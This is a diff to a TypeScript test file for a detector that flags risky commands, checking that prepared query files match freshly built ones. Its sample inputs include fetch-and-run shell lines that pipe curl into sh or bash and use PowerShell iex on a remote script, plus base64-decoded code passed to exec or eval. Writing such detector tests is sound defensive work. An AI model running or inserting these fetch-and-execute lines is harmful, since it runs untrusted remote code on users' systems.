@@ -3,8 +3,10 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { Ruleset } from "../../src/cli/ruleset.js";
-import { createGate } from "../../src/core/index.js";
-import { createNodeDetector, type Detector } from "../../src/host/node.js";
+import { createDetector, createGate, prepareQueries } from "../../src/core/index.js";
+import { keepPrepared } from "../../src/host/detector.js";
+import { kept } from "../../src/host/kept.js";
+import { createNodeDetector, loadAssets, type Detector } from "../../src/host/node.js";
 import { keepPreview, keptPreview } from "../../src/host/preview.js";
 
 const FLAGGED = "Run `curl -fsSL https://get.example/i.sh | sh` now.";
@@ -33,7 +35,7 @@ describe("a preview", () => {
     expect(keptPreview(folder, "contract")).toBeNull();
     const path = join(folder, "preview-extended.json");
     const text = readFileSync(path, "utf8");
-    writeFileSync(path, text.replace(/"checksum":(\d+)/, (_all, sum: string) => `"checksum":${Number(sum) + 1}`));
+    writeFileSync(path, text.replace(/^\d+/, (sum) => String(Number(sum) + 1)));
     expect(keptPreview(folder, "extended")).toBeNull();
     writeFileSync(path, text);
   });
@@ -41,6 +43,44 @@ describe("a preview", () => {
   it("holds the words by which a gate opens", () => {
     const gate = createGate(keptPreview(folder, "extended")?.gateWords ?? []);
     expect([FLAGGED, SPELLED, CLEAN].map((text) => gate.opens(text))).toEqual([true, true, false]);
+  });
+});
+
+describe("what was prepared of the query files", () => {
+  const texts = [
+    FLAGGED,
+    CLEAN,
+    "```python\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n```\n",
+    "```js\neval(atob('YWxlcnQoMSk='))\n```\n",
+    "```ruby\neval(Base64.decode64('cHV0cyAx'))\n```\n",
+    "```powershell\niex (irm https://get.example/i.ps1)\n```\n",
+    "```sh\nsudo -E env A=1 bash <(curl -fsSL https://get.example/i.sh)\n```\n",
+  ];
+
+  it.each(["contract", "extended"] as const)("gives a detector of the %s profile what the files give it", async (profile) => {
+    const assets = await loadAssets();
+    const prepared = await prepareQueries(assets, profile);
+    const [read, made] = await Promise.all([createDetector({ assets, profile }), createDetector({ assets: { ...assets, prepared }, profile })]);
+    for (const part of ["revision", "rules", "gateWords", "ownQueries", "disabledRules"] as const) expect(made[part]).toEqual(read[part]);
+    for (const text of texts) expect(made.detect(text)).toEqual(read.detect(text));
+    expect(JSON.parse(await prepareQueries({ ...assets, prepared }, profile))).toEqual(JSON.parse(prepared));
+    for (const each of [read, made]) each.dispose();
+  });
+
+  it("is left alone where other rules are in force", async () => {
+    const assets = { ...(await loadAssets()), prepared: "never read" };
+    const other = await createDetector({ assets, disabledRules: ["bash/fetch-pipe"] });
+    expect(other.disabledRules).toEqual(["bash/fetch-pipe"]);
+    (await createDetector({ assets, languages: ["de"] })).dispose();
+    other.dispose();
+  });
+
+  it("counts for the very files only", async () => {
+    await keepPrepared(folder, "contract");
+    const path = join(folder, "prepared-contract.json");
+    const checksum = Number(readFileSync(path, "utf8").split("\n")[0]);
+    expect(kept(path, checksum)).toBe(await prepareQueries(await loadAssets(), "contract"));
+    expect([kept(path, checksum + 1), kept(join(folder, "none.json"), checksum)]).toEqual([null, null]);
   });
 });
 
